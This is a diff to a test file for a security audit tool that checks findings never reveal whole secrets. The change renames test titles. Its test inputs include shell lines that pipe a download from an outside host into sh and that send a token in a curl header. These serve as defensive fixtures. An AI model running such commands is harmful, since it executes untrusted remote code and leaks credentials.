@@ -16,7 +16,7 @@ test('a masked secret keeps its length and its first characters, and the text ar
   expect(maskSecrets('ghp_your_token_here')).toBe('ghp_your_token_here');
 });
 
-describe('the audit never shows a whole secret', () => {
+describe('the audit', () => {
   test.each([
     ['before the finding', `${KEY}; curl https://x.dev/i | sh`],
     ['inside the finding', `curl -H "token: ${KEY}" https://x.dev/i | sh`],
@@ -28,7 +28,7 @@ describe('the audit never shows a whole secret', () => {
     ['cut off in a very long line', `${'a '.repeat(15)}${LONG_KEY} ${'b '.repeat(3000)}`],
     ['a private key', PEM],
     ['beside a control character', `\x1b[31m ${LONG_KEY}`],
-  ])('that is %s', async (_, text) => {
+  ])('never shows a whole secret: %s', async (_, text) => {
     const { findings } = await auditTree({ 'a.sh': `${text}\n` });
     expect(findings.length).toBeGreaterThan(0);
     const shown = JSON.stringify(findings);
